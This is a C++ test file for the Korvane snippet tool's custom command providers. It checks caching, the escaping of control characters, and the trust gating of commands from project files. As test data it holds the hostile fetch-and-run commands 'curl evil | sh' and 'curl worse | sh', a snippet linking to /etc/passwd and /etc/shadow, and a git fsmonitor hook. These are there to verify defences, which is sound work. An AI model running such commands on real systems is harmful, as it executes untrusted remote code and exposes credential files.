#include "providers/customprovider.h"

#include "config/configmanagerharness.h"
#include "files/gitcommandrunner.h"
#include "files/gitrepo.h"
#include "platform/fake/fakeclock.h"
#include "platform/fake/fakeprocessrunner.h"
#include "gitguard/gitprogramoverrides.h"
#include "platform/linux/linuxprocessrunner.h"
#include "support/gitreachanswer.h"
#include "support/logcapture.h"
#include "support/scopedenv.h"
#include "support/tempdir.h"

#include <algorithm>
#include <filesystem>
#include <gmock/gmock.h>
#include <regex>
#include <unistd.h>

namespace korvane {
namespace {

using testing::ElementsAre;
using testing::IsEmpty;
using testing::UnorderedElementsAre;
using Script = FakeProcessRunner::Script;

std::vector<std::string> labels(const std::vector<Snippet>& snippets) {
    std::vector<std::string> result;
    for (const auto& snippet : snippets) {
        result.push_back(snippet.label);
    }
    return result;
}

CustomProviderConfig providerConfig(std::string id = "tickets", std::string mode = "scan",
                                    std::int64_t ttl = 30) {
    CustomProviderConfig config;
    config.id = std::move(id);
    config.label = "Tickets";
    config.command = "list-tickets";
    config.mode = std::move(mode);
    config.ttl = ttl;
    return config;
}

// A command that runs in folders the user trusted, where git is left as it is.
CommandTrust everyFolderTrusted() {
    return CommandTrust{.trustsFolder = [](const std::string&) { return true; }};
}

class CustomProviderTest : public testing::Test {
protected:
    std::shared_ptr<CustomProvider> provider(CustomProviderConfig config,
                                             CommandTrust trust = everyFolderTrusted()) {
        return std::make_shared<CustomProvider>(std::move(config), runner, std::move(trust), clock);
    }

    FakeClock clock;
    std::shared_ptr<FakeProcessRunner> processes = std::make_shared<FakeProcessRunner>(&clock);
    std::shared_ptr<ShellCommandRunner> runner = std::make_shared<ShellCommandRunner>(processes);
    test::LogCapture log;
};

TEST_F(CustomProviderTest, KeepsAResultForTtlSecondsPerRoot) {
    processes->respondByDefault({.output = "a\nb\n"});
    auto tickets = provider(providerConfig());
    EXPECT_THAT(labels(tickets->snippets("/p")), ElementsAre("a", "b"));
    clock.advance(29.9);
    processes->respondByDefault({.output = "c\n"});
    EXPECT_THAT(labels(tickets->snippets("/p")), ElementsAre("a", "b"));
    EXPECT_EQ(processes->runCount(), 1u);
    EXPECT_THAT(labels(tickets->snippets("/q")), ElementsAre("c"));
    clock.advance(0.2);
    EXPECT_THAT(labels(tickets->snippets("/p")), ElementsAre("c"));
    EXPECT_EQ(processes->runCount(), 3u);

    const auto request = processes->requests().front();
    EXPECT_EQ(request.workingDirectory, "/p");
    EXPECT_EQ(request.timeout, CustomProvider::kScanTimeout);
    EXPECT_THAT(request.environment, ElementsAre(std::pair<std::string, std::string>("PROJECT_ROOT", "/p")));

    auto uncached = provider(providerConfig("t", "scan", 0));
    uncached->snippets("/p");
    uncached->snippets("/p");
    EXPECT_EQ(processes->runCount(), 5u);
}

TEST_F(CustomProviderTest, AFailedRunServesTheLastGoodResultWhateverItsAge) {
    auto tickets = provider(providerConfig());
    processes->respondByDefault({.exitStatus = 2, .output = "ignored\n"});
    EXPECT_THAT(tickets->snippets("/p"), IsEmpty());

    processes->respondByDefault({.output = "good\n"});
    tickets->snippets("/p");
    clock.advance(3600);
    processes->respondByDefault({.exitStatus = 1, .output = "bad\n"});
    EXPECT_THAT(labels(tickets->snippets("/p")), ElementsAre("good"));
    // A time-out is a failure even when the command would have exited 0: its output is not kept.
    processes->respondByDefault({.output = "partial\n", .duration = 10.0});
    EXPECT_THAT(labels(tickets->snippets("/p")), ElementsAre("good"));
    processes->respondByDefault({.launchError = ENOENT});
    EXPECT_THAT(labels(tickets->snippets("/p")), ElementsAre("good"));
    EXPECT_THAT(log.lines(),
                ElementsAre("[Korvane] Custom provider 'tickets' exited with status 2",
                            "[Korvane] Custom provider 'tickets' exited with status 1",
                            "[Korvane] Custom provider 'tickets' exited with status 15",
                            "[Korvane] Shell command failed for 'list-tickets': No such file or directory",
                            "[Korvane] Custom provider 'tickets' exited with status -1"));
}

// A command that waits for the trust of the folder it would run in was never started: its lines say
// that it waits, not that it failed, and the runner keeps what keeps it waiting until a command runs
// there again.
TEST_F(CustomProviderTest, ACommandWaitingForItsFoldersTrustIsNotReportedAsFailed) {
    using namespace std::string_literals;
    const test::TempDir folder;
    const std::string root = folder.path().string();
    // The folder's repository sets a pager, a program.
    processes->respond("--show-toplevel", {.output = test::repositoryPathsAnswer(root)});
    processes->respond("-z", {.output = "local\0file:.git/config\0core.pager\nless\0"s});
    processes->respond("list-tickets", {.output = "main\n"});
    auto gst = provider(providerConfig("gst"), CommandTrust{});
    EXPECT_THAT(gst->snippets(root), IsEmpty());
    EXPECT_THAT(log.lines(),
                ElementsAre(testing::AllOf(testing::StartsWith("[Korvane] [GIT EXEC FAILED] cwd=" + root),
                                           testing::HasSubstr(root + "/.git/config sets core.pager")),
                            "[Korvane] Custom provider 'gst' not run: it waits until the folder '" + root +
                                "' is trusted"));
    EXPECT_THAT(runner->waitingReason(root),
                testing::Optional(testing::HasSubstr(".git/config sets core.pager")));
    EXPECT_EQ(runner->waitingReason("/elsewhere"), std::nullopt);

    processes->respond("-z", {});
    log.clear();
    EXPECT_THAT(labels(gst->snippets(root)), ElementsAre("main"));
    EXPECT_EQ(runner->waitingReason(root), std::nullopt);
    EXPECT_THAT(log.lines(), IsEmpty());
}

TEST_F(CustomProviderTest, BlankOutputIsAnEmptyResultThatIsCachedSilently) {
    processes->respondByDefault({.output = " \n\t\n  \n"});
    auto tickets = provider(providerConfig());
    EXPECT_THAT(tickets->snippets("/p"), IsEmpty());
    EXPECT_THAT(tickets->snippets("/p"), IsEmpty());
    EXPECT_EQ(processes->runCount(), 1u);
    EXPECT_THAT(log.lines(), IsEmpty());
}

TEST_F(CustomProviderTest, LiveProvidersAnswerQueriesOnlyAndNeverCache) {
    auto live = provider(providerConfig("search", "live"));
    EXPECT_THAT(live->snippets("/p"), IsEmpty());
    EXPECT_EQ(processes->runCount(), 0u);

    processes->respondByDefault({.output = "hit\n"});
    EXPECT_THAT(labels(live->liveSnippets("/p", "que ry", "org.gnome.Terminal", "Terminal", true)),
                ElementsAre("hit"));
    EXPECT_THAT(labels(live->liveSnippets("/p", "que ry", "org.gnome.Terminal", "Terminal", true)),
                ElementsAre("hit"));
    EXPECT_EQ(processes->runCount(), 2u);
    const auto request = processes->requests().front();
    EXPECT_EQ(request.timeout, CustomProvider::kLiveTimeout);
    EXPECT_THAT(
        request.environment,
        ElementsAre(std::pair<std::string, std::string>("PROJECT_ROOT", "/p"),
                    std::pair<std::string, std::string>("KORVANE_QUERY", "que ry"),
                    std::pair<std::string, std::string>("KORVANE_APP_BUNDLE_ID", "org.gnome.Terminal"),
                    std::pair<std::string, std::string>("KORVANE_APP_NAME", "Terminal"),
                    std::pair<std::string, std::string>("KORVANE_CASE_SENSITIVE", "1")));

    processes->respondByDefault({.exitStatus = 1, .output = "hit\n"});
    EXPECT_THAT(live->liveSnippets("/p", "q", "b", "n", false), IsEmpty());
    EXPECT_THAT(log.lines(), IsEmpty());

    // Only "live" exactly is live.
    auto scan = provider(providerConfig("wiki", "Live"));
    EXPECT_THAT(scan->liveSnippets("/p", "q", "b", "n", false), IsEmpty());
    EXPECT_EQ(processes->runCount(), 3u);
}

// A live answer goes straight to the popup: names it read from a project (a branch, a ticket title) with
// a control character or a bidirectional one are not offered, as the registry refuses them in a scan.
TEST_F(CustomProviderTest, LiveAnswersOfferNoNameWithAControlCharacter) {
    auto live = provider(providerConfig("search", "live"));
    processes->respondByDefault({.output = "main\nrtl-\u202Etxt.sh\nesc\x1b]0;x\x07\niso\u2066late\n"});
    EXPECT_THAT(labels(live->liveSnippets("/p", "q", "b", "n", false)), ElementsAre("main"));
    processes->respondByDefault(
        {.output = R"([{"key": "a", "label": "A\u202E"}, {"key": "b\u2069"}, {"key": "c", "label": "C"}])"});
    EXPECT_THAT(labels(live->liveSnippets("/p", "q", "b", "n", false)), ElementsAre("c"));
}

TEST_F(CustomProviderTest, AnUntrustedCommandNeverStartsAndSaysSoOnce) {
    processes->respondByDefault({.output = "secret\n"});
    auto scan = provider(providerConfig(), CommandTrust{"/home/u/downloads/repo"});
    auto live = provider(providerConfig("search", "live"), CommandTrust{"/home/u/downloads/repo"});
    EXPECT_THAT(scan->snippets("/home/u/downloads/repo"), IsEmpty());
    EXPECT_THAT(scan->snippets("/home/u/downloads/repo"), IsEmpty());
    EXPECT_THAT(live->liveSnippets("/home/u/downloads/repo", "q", "b", "n", false), IsEmpty());
    EXPECT_EQ(processes->runCount(), 0u);
    EXPECT_THAT(log.lines(),
                ElementsAre("[Korvane] Custom provider 'tickets' not run: the commands of project "
                            "'/home/u/downloads/repo' are not trusted yet",
                            "[Korvane] Custom provider 'search' not run: the commands of project "
                            "'/home/u/downloads/repo' are not trusted yet"));
}

// A provider's identifier, its command and its project's folder come from files a project wrote: the
// lines that name them carry none of their controls as they are.
TEST_F(CustomProviderTest, LogLinesShowWhatAProjectWroteEscaped) {
    auto untrusted = provider(providerConfig("tick\u202Eets"), CommandTrust{"/home/u/\u2067repo"});
    EXPECT_THAT(untrusted->snippets("/home/u/\u2067repo"), IsEmpty());
    CustomProviderConfig failing = providerConfig();
    failing.command = "make \u202Ehs.1\x1b[2J";
    processes->respondByDefault({.launchError = ENOENT});
    EXPECT_THAT(provider(failing)->snippets("/p"), IsEmpty());
    EXPECT_THAT(log.lines(),
                ElementsAre("[Korvane] Custom provider 'tick\\u202Eets' not run: the commands of "
                            "project '/home/u/\\u2067repo' are not trusted yet",
                            testing::StartsWith("[Korvane] Shell command failed for 'make "
                                                "\\u202Ehs.1\\x1B[2J': "),
                            "[Korvane] Custom provider 'tickets' exited with status -1"));
}

TEST_F(CustomProviderTest, IdentifiersAndBadges) {
    auto tickets = provider(providerConfig());
    EXPECT_EQ(tickets->snippetID("abc"), "custom:tickets:119f095f750e29fe");
    EXPECT_EQ(tickets->snippetID("abc"), provider(providerConfig())->snippetID("abc"));
    EXPECT_NE(tickets->snippetID("abd"), tickets->snippetID("abc"));

    struct Case {
        std::string label;
        std::optional<std::string> badge;
        std::string expected;
    };
    const Case cases[] = {
        {"Tickets", std::nullopt, "TICK"},
        {"PR", std::nullopt, "PR"},
        {"straße", std::nullopt, "STRA"},
        {"ßaum", std::nullopt, "SSAUM"},
        {"e\u0301tude", std::nullopt, "E\u0301TUD"},
        {"Tickets", "jira", "jira"},
        {"Tickets", "", ""},
    };
    for (const auto& c : cases) {
        auto config = providerConfig();
        config.label = c.label;
        config.badge = c.badge;
        EXPECT_EQ(provider(config)->badge(), c.expected) << c.label;
    }
}

// The configuration manager hands each custom provider its trust: the global file's commands run,
// a project's own commands only once trusted, and again only until they change.
class CustomProviderTrustTest : public test::ConfigManagerTest {
protected:
    void SetUp() override {
        manager.providerFactories.custom = [this](const CustomProviderConfig& config,
                                                  const CommandTrust& trust) {
            return CustomProvider::make(config, trust, runner);
        };
        writeGlobal(R"({"custom_providers": [{"id": "mine", "label": "Mine", "command": "global-cmd"}]})");
        manager.loadGlobalConfig();
        // The project folders are no repositories.
        processes->respond("--show-toplevel", {.exitStatus = 128});
        processes->respond("index", {.exitStatus = 128});
    }

    void scanAll() {
        for (const auto& provider : manager.makeProviders().providers) {
            provider->snippets(projectRoot());
        }
    }

    std::vector<std::string> commandsRun() const {
        std::vector<std::string> commands;
        for (const auto& request : processes->requests()) {
            if (request.executable == "/bin/sh") {
                commands.push_back(request.arguments.back());
            }
        }
        return commands;
    }

    std::shared_ptr<FakeProcessRunner> processes = std::make_shared<FakeProcessRunner>();
    std::shared_ptr<ShellCommandRunner> runner = std::make_shared<ShellCommandRunner>(processes);
};

TEST_F(CustomProviderTrustTest, ProjectCommandsRunOnlyOnceTrustedAndUntilTheyChange) {
    writeProject(R"({"custom_providers": [
        {"id": "repo", "label": "Repo", "command": "curl evil | sh"},
        {"id": "mine", "label": "Mine", "command": "override"}]})");
    manager.setProjectRoot(projectRoot());
    scanAll();
    EXPECT_THAT(commandsRun(), ElementsAre());
    const auto waiting = manager.projectsAwaitingTrust();
    ASSERT_EQ(waiting.size(), 1u);
    EXPECT_EQ(waiting[0].projectRoot, projectRoot());
    EXPECT_THAT(waiting[0].commands, ElementsAre("curl evil | sh", "override"));

    ASSERT_TRUE(manager.trustProjectCommands(waiting[0]).has_value());
    EXPECT_THAT(manager.projectsAwaitingTrust(), IsEmpty());
    scanAll();
    EXPECT_THAT(commandsRun(), ElementsAre("curl evil | sh", "override"));

    // The trust is kept in the configuration folder for the next start.
    ConfigManager restarted{ConfigLoader(configDir()), nullptr, capabilities};
    restarted.loadGlobalConfig();
    restarted.setProjectRoot(projectRoot());
    EXPECT_THAT(restarted.projectsAwaitingTrust(), IsEmpty());

    writeProject(R"({"custom_providers": [
        {"id": "repo", "label": "Repo", "command": "curl worse | sh"},
        {"id": "mine", "label": "Mine", "command": "override"}]})");
    manager.reloadProjectConfig();
    ASSERT_EQ(manager.projectsAwaitingTrust().size(), 1u);
    scanAll();
    EXPECT_THAT(commandsRun(), ElementsAre("curl evil | sh", "override"));
}

TEST_F(CustomProviderTrustTest, GlobalCommandsAlwaysRunBesideAnUntrustedProject) {
    writeProject(R"({"custom_providers": [{"id": "repo", "label": "Repo", "command": "repo-cmd"}]})");
    manager.setProjectRoot(projectRoot());
    scanAll();
    EXPECT_THAT(commandsRun(), ElementsAre("global-cmd"));
    // Git under it is read until the project is trusted.
    const auto gitReads = [&] {
        const auto requests = processes->requests();
        return std::count_if(requests.begin(), requests.end(), [](const auto& request) {
            return std::find(request.arguments.begin(), request.arguments.end(), "--list") !=
                   request.arguments.end();
        });
    };
    EXPECT_EQ(gitReads(), 1);

    // Trust belongs to one root: the same file elsewhere waits again.
    ASSERT_TRUE(manager.trustProjectCommands(manager.projectsAwaitingTrust().at(0)).has_value());
    scanAll();
    EXPECT_EQ(commandsRun().size(), 3u);
    EXPECT_EQ(gitReads(), 1);
    writeProject(R"({"custom_providers": [{"id": "repo", "label": "Repo", "command": "repo-cmd"}]})",
                 "clone");
    manager.setProjectRoot(projectRoot("clone"));
    EXPECT_EQ(manager.projectsAwaitingTrust().size(), 1u);

    // A project without commands of its own waits for nothing.
    writeProject(R"({"snippets": [{"key": "k", "expand": "v"}]})", "plain");
    manager.setProjectRoot(projectRoot("plain"));
    EXPECT_THAT(manager.projectsAwaitingTrust(), IsEmpty());
}

// Until its project is trusted, a project file can neither replace a key the user has, nor pull the
// user's snippets or clipboard into its text, nor open anything but web and mail links.
TEST_F(CustomProviderTrustTest, AnUntrustedProjectCannotTakeOverTheUsersSnippets) {
    writeGlobal(
        R"({"snippets": [{"key": "sig", "expand": "mine"}, {"key": "gh-token", "expand": "SECRET"}]})");
    manager.loadGlobalConfig();
    const std::string project = R"({"snippets": [
        {"key": "sig", "expand": "SIG"}, {"key": "note", "expand": "{{gh-token}}"},
        {"key": "local", "url": "file:///etc/passwd"}, {"key": "web", "url": "HTTPS://example.invalid/x"}]})";
    writeProject(std::regex_replace(project, std::regex("SIG"), "evil"));
    manager.setProjectRoot(projectRoot());
    test::LogCapture log;
    auto set = manager.mergedManualSnippets("xterm", projectRoot());
    const auto find = [&set](const std::string& key) {
        const auto it =
            std::find_if(set.begin(), set.end(), [&](const Snippet& s) { return s.label == key; });
        return it == set.end() ? nullptr : &*it;
    };
    EXPECT_EQ(find("sig")->expansion, "mine");
    EXPECT_EQ(find("local"), nullptr);
    ASSERT_NE(find("web"), nullptr);
    // The merged file (what a refresh reloads) holds the same.
    const auto merged = [&](const std::string& key) -> std::string {
        for (const auto& snippet : manager.mergedConfig().snippets) {
            if (snippet.key == key) {
                return snippet.expand.value_or(snippet.url.value_or(""));
            }
        }
        return "(none)";
    };
    EXPECT_EQ(merged("sig"), "mine");
    EXPECT_EQ(merged("local"), "(none)");
    ASSERT_NE(find("note"), nullptr);
    EXPECT_FALSE(manager.expandsWithUserContent(*find("note")));
    EXPECT_TRUE(manager.expandsWithUserContent(*find("gh-token")));
    EXPECT_THAT(
        log.lines(),
        testing::Contains("[Korvane] Project snippet 'sig' waits for trust: the key stays the user's"));

    // The trust covers the replacing snippet's text: a change asks again.
    const auto waiting = manager.projectsAwaitingTrust();
    ASSERT_EQ(waiting.size(), 1u);
    EXPECT_THAT(waiting[0].commands, IsEmpty());
    EXPECT_THAT(waiting[0].overridingKeys, ElementsAre("sig"));
    // What trust lets open is shown too, and covered: another address asks again.
    EXPECT_THAT(waiting[0].linkKeys, ElementsAre("local"));
    writeProject(std::regex_replace(std::regex_replace(project, std::regex("SIG"), "evil"),
                                    std::regex("/etc/passwd"), "/etc/shadow"));
    manager.reloadProjectConfig();
    ASSERT_EQ(manager.projectsAwaitingTrust().size(), 1u);
    EXPECT_NE(manager.projectsAwaitingTrust()[0].commandsDigest, waiting[0].commandsDigest);
    writeProject(std::regex_replace(project, std::regex("SIG"), "evil"));
    manager.reloadProjectConfig();
    ASSERT_TRUE(manager.trustProjectCommands(waiting[0]).has_value());
    set = manager.mergedManualSnippets("xterm", projectRoot());
    EXPECT_EQ(find("sig")->expansion, "evil");
    EXPECT_EQ(merged("sig"), "evil");
    EXPECT_NE(find("local"), nullptr);
    EXPECT_TRUE(manager.expandsWithUserContent(*find("note")));

    // An entry removed from the store by hand takes the trust back for the next set.
    manager.markManualSnippetsUpdated("xterm", projectRoot());
    const std::string store = test::readFile(configDir() / "trusted-projects.json");
    home.write(".config/korvane/trusted-projects.json", "{}");
    EXPECT_TRUE(manager.shouldUpdateManualSnippets("xterm", projectRoot()));
    set = manager.mergedManualSnippets("xterm", projectRoot());
    EXPECT_EQ(find("sig")->expansion, "mine");
    home.write(".config/korvane/trusted-projects.json", store);

    writeProject(std::regex_replace(project, std::regex("SIG"), "worse"));
    manager.reloadProjectConfig();
    EXPECT_EQ(manager.projectsAwaitingTrust().size(), 1u);
    set = manager.mergedManualSnippets("xterm", projectRoot());
    EXPECT_EQ(find("sig")->expansion, "mine");
}

// Trust is taken back by removing the entry from the file, at once; and a store that someone else
// could have written trusts nothing.
TEST_F(CustomProviderTrustTest, TrustIsTakenBackAtOnceAndAnUnsafeStoreTrustsNothing) {
    writeProject(R"({"custom_providers": [{"id": "repo", "label": "Repo", "command": "repo-cmd"}]})");
    manager.setProjectRoot(projectRoot());
    ASSERT_TRUE(manager.trustProjectCommands(manager.projectsAwaitingTrust().at(0)).has_value());
    const auto providers = manager.makeProviders().providers;
    const auto scan = [&] {
        for (const auto& provider : providers) {
            provider->snippets(projectRoot());
        }
    };
    scan();
    EXPECT_THAT(commandsRun(), UnorderedElementsAre("global-cmd", "repo-cmd"));
    const auto store = configDir() / "trusted-projects.json";
    const std::string trusted = test::readFile(store);
    home.write(".config/korvane/trusted-projects.json", "{}");
    test::LogCapture log;
    scan();
    EXPECT_THAT(commandsRun(), UnorderedElementsAre("global-cmd", "repo-cmd"));
    EXPECT_THAT(log.lines(),
                testing::Contains(testing::HasSubstr("not run: the trust of its project was taken back")));

    namespace fs = std::filesystem;
    const auto check = [&](const std::string& what, bool expected, const std::function<void()>& arrange) {
        home.write(".config/korvane/trusted-projects.json", trusted);
        fs::permissions(store, fs::perms::owner_read | fs::perms::owner_write);
        arrange();
        EXPECT_EQ(manager.projectsAwaitingTrust().empty(), expected) << what;
    };
    check("a safe store", true, [] {});
    check("writable by others", false,
          [&] { fs::permissions(store, fs::perms::others_write, fs::perm_options::add); });
    check("writable by the group", false,
          [&] { fs::permissions(store, fs::perms::group_write, fs::perm_options::add); });
    check("a symbolic link", false, [&] {
        fs::rename(store, configDir() / "elsewhere.json");
        fs::create_symlink(configDir() / "elsewhere.json", store);
    });
    fs::remove(store);
    if (::geteuid() == 0) {
        check("another user's file", false, [&] { ASSERT_EQ(::chown(store.c_str(), 65534, 65534), 0); });
    }
}

TEST_F(CustomProviderTrustTest, AnUnreadableTrustFileIsNeitherTrustedNorReplaced) {
    home.write(".config/korvane/trusted-projects.json", "{not json");
    writeProject(R"({"custom_providers": [{"id": "repo", "label": "Repo", "command": "repo-cmd"}]})");
    manager.setProjectRoot(projectRoot());
    const auto waiting = manager.projectsAwaitingTrust();
    ASSERT_EQ(waiting.size(), 1u);
    EXPECT_FALSE(manager.trustProjectCommands(waiting[0]).has_value());
    EXPECT_EQ(test::readFile(configDir() / "trusted-projects.json"), "{not json");
    scanAll();
    EXPECT_THAT(commandsRun(), ElementsAre("global-cmd"));
}

// The user's own command in the user's own repository, made by the configuration manager and run for
// real; the repository names a file-system monitor that plain git runs. Trusting the folder gives the
// command the repository's own configuration, and nothing to Korvane's own git or to a project file in
// the folder, whose commands run only with their own trust. Entries removed by hand take trust back.
TEST_F(CustomProviderTrustTest, TheUsersOwnFolderIsTrustedOnItsOwn) {
    const test::ScopedEnv homeVariable{"HOME", std::getenv("HOME")};
    const test::ScopedEnv noSystem{"GIT_CONFIG_NOSYSTEM", std::getenv("GIT_CONFIG_NOSYSTEM")};
    const test::GitRepo repo;
    ASSERT_TRUE(
        repo.sh("printf '#!/bin/sh\\ntouch \"$PWD/monitor-ran\"\\nexit 1\\n' >.git/m && chmod +x .git/m && "
                "git config core.fsmonitor \"$PWD/.git/m\" && git status >/dev/null && test -e monitor-ran"));
    const auto real = std::make_shared<ShellCommandRunner>(std::make_shared<LinuxProcessRunner>());
    manager.providerFactories.custom = [real](const CustomProviderConfig& config, const CommandTrust& trust) {
        return CustomProvider::make(config, trust, real);
    };
    writeGlobal(R"({"custom_providers": [{"id": "mine", "label": "M", "command": "git status", "ttl": 0}]})");
    manager.loadGlobalConfig();
    manager.setProjectRoot(repo.root());
    const auto ran = [&](const std::vector<std::shared_ptr<SnippetProvider>>& providers) {
        std::vector<std::string> markers = {"monitor-ran", "project-ran"};
        std::for_each(markers.begin(), markers.end(),
                      [&](const auto& m) { std::filesystem::remove(repo.path() / m); });
        for (const auto& provider : providers) {
            provider->snippets(repo.root());
        }
        std::erase_if(markers, [&](const auto& m) { return !std::filesystem::exists(repo.path() / m); });
        return markers;
    };
    const auto store = [&](const std::string& text) {
        home.write(".config/korvane/trusted-projects.json", text);
    };

    ASSERT_EQ(manager.folderAwaitingTrust(), repo.root());
    EXPECT_THAT(ran(manager.makeProviders().providers), IsEmpty());
    ASSERT_TRUE(manager.trustFolder(repo.root()).has_value());
    EXPECT_EQ(manager.folderAwaitingTrust(), std::nullopt);
    const auto providers = manager.makeProviders().providers;
    EXPECT_THAT(ran(providers), ElementsAre("monitor-ran"));
    std::filesystem::remove(repo.path() / "monitor-ran");
    EXPECT_TRUE(GitCommandRunner(std::make_shared<LinuxProcessRunner>()).run({"status"}, repo.root(), 5.0));
    EXPECT_FALSE(std::filesystem::exists(repo.path() / "monitor-ran"));
    // Under a key of its own, so that every project entry keeps its meaning.
    const std::string folderOnly = test::readFile(configDir() / "trusted-projects.json");
    EXPECT_THAT(folderOnly, testing::HasSubstr("\"folder:" + repo.root() + "\": \""));
    store("{}");
    EXPECT_THAT(ran(providers), IsEmpty());
    store(folderOnly);

    repo.write(".korvane.json", R"({"custom_providers": [
        {"id": "repo", "label": "R", "command": "touch project-ran", "ttl": 0}]})");
    manager.reloadProjectConfig();
    ASSERT_EQ(manager.projectsAwaitingTrust().size(), 1u);
    EXPECT_EQ(manager.folderAwaitingTrust(), std::nullopt);
    EXPECT_THAT(ran(manager.makeProviders().providers), ElementsAre("monitor-ran"));
    ASSERT_TRUE(manager.trustProjectCommands(manager.projectsAwaitingTrust().at(0)).has_value());
    const auto withProject = manager.makeProviders().providers;
    EXPECT_THAT(ran(withProject), ElementsAre("monitor-ran", "project-ran"));
    store(folderOnly);
    EXPECT_THAT(ran(withProject), ElementsAre("monitor-ran"));
}

} // namespace
} // namespace korvane
